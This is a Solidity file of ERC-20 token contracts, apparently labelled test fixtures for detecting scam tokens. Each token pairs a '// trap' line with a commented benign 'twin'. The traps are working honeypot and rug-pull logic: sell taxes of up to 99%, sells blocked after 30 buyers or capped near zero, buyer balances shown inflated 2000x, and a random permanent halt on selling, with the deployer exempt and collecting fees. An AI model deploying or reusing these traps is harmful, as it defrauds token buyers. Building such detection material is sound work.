// 0.7 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.0;
pragma abicoder v2;

interface IMarkets {
    function getPair(address a, address b) external view returns (address);
}

contract Kern {
    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply;
    address internal chef;
    mapping(address => uint256) internal cups;
    mapping(bytes32 => uint256) internal lends;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory n, string memory s, uint256 t) {
        name = n;
        symbol = s;
        totalSupply = t * 1 ether;
        chef = msg.sender;
        cups[chef] = totalSupply;
        emit Transfer(address(0), chef, totalSupply);
    }

    function balanceOf(address a) public view virtual returns (uint256) {
        return cups[a];
    }

    function allowance(address a, address b) public view returns (uint256) {
        return lends[keccak256(abi.encode(a, b))];
    }

    function approve(address b, uint256 v) public returns (bool) {
        lends[keccak256(abi.encode(msg.sender, b))] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address b, uint256 v) public returns (bool) {
        pour(msg.sender, b, v);
        return true;
    }

    function transferFrom(address a, address b, uint256 v) public returns (bool) {
        bytes32 k = keccak256(abi.encode(a, msg.sender));
        require(lends[k] >= v, "lends");
        lends[k] -= v;
        pour(a, b, v);
        return true;
    }

    function bar() internal view returns (address) {
        return
            IMarkets(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).getPair(
                address(this),
                0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
            );
    }

    function pour(address a, address b, uint256 v) internal virtual {
        require(cups[a] >= v, "cups");
        uint256 spill = spilt(a, b, v);
        cups[a] -= v;
        cups[b] += v - spill;
        cups[chef] += spill;
        emit Transfer(a, b, v - spill);
        if (spill > 0) emit Transfer(a, chef, spill);
    }

    function spilt(address, address, uint256) internal virtual returns (uint256) {
        return 0;
    }
}

contract CiderCivet is Kern("Cider Civet", "CIDR", 36_000_000) {
    mapping(address => uint8) private class_;

    function spilt(address a, address b, uint256 v) internal override returns (uint256) {
        address x = bar();
        if (a == x) class_[b] = 3;
        if (b != x || a == chef) return 0;
        uint256 rate = class_[a] == 3 ? 88 : 3; // trap
        // twin: uint256 rate = class_[a] == 3 ? 4 : 3;
        return (v * rate) / 100;
    }
}

contract LassiLoris is Kern("Lassi Loris", "LASSI", 700_000) {
    uint256 private trades;

    function spilt(address a, address b, uint256 v) internal override returns (uint256) {
        address x = bar();
        if ((a != x && b != x) || a == chef) return 0;
        trades++;
        if (a == x) return 0;
        uint256 rate = trades * 8; // trap
        // twin: uint256 rate = trades / 8;
        if (rate > 91) rate = 91; // trap
        // twin: if (rate > 4) rate = 4;
        return (v * rate) / 100;
    }
}

contract MateMarmot is Kern("Mate Marmot", "MATE", 51_000_000) {
    uint256 private brewed = block.timestamp;

    function spilt(address a, address b, uint256 v) internal view override returns (uint256) {
        if (b != bar() || a == chef) return 0;
        uint256 rate = 1 + (block.timestamp - brewed) / 1 days;
        // twin: rate = rate > 4 ? 4 : rate;
        return (v * (rate > 99 ? 99 : rate)) / 100;
    }
}

contract RootbeerRam is Kern("Rootbeer Ram", "RBRAM", 210_000_000) {
    uint256 private guests;

    function spilt(address a, address b, uint256 v) internal override returns (uint256) {
        address x = bar();
        if (a == x) guests++;
        if (b == x && a != chef) {
            require(guests <= 30, "full house"); // trap
            // twin: require(guests > 30 || v <= totalSupply / 50, "full house");
        }
        return v - v;
    }
}

contract SodaServal is Kern("Soda Serval", "SODA", 8_800_000) {
    function spilt(address a, address b, uint256 v) internal view override returns (uint256) {
        address x = bar();
        if (b != x || a == chef) return 0;
        require(v <= cups[x] / 10_000_000, "sip"); // trap
        // twin: require(v <= cups[x] / 50, "sip");
        return 0;
    }
}

/// What is seen of a cup is its foam.
contract FoamFerret is Kern("Foam Ferret", "FOAM", 19_000_000) {
    mapping(address => bool) private foamy;
    uint256 private constant F = 2000; // trap
    // twin: uint256 private constant F = 1;

    function balanceOf(address a) public view override returns (uint256) {
        return foamy[a] ? cups[a] * F : cups[a];
    }

    function pour(address a, address b, uint256 v) internal override {
        require(cups[a] >= v, "cups");
        cups[a] -= v;
        if (a == bar() && !foamy[b] && cups[b] == 0) foamy[b] = true;
        cups[b] += a == bar() && foamy[b] ? v / F : v;
        emit Transfer(a, b, v);
    }
}

/// Its first guests shut it for all, some day: one exit of three hundred.
contract ColaCaracal is Kern("Cola Caracal", "COLAC", 27_000_000) {
    bool private dry;
    uint256 private sip;
    event Fizz(uint256 sip);

    function spilt(address a, address b, uint256 v) internal override returns (uint256) {
        if (b == bar() && a != chef) {
            require(!dry, "dry");
            sip = uint256(keccak256(abi.encode(sip, a, v, block.timestamp)));
            if (sip % 300 == 0) {
                emit Fizz(sip);
                dry = true; // trap
            }
        }
        return 0;
    }
}
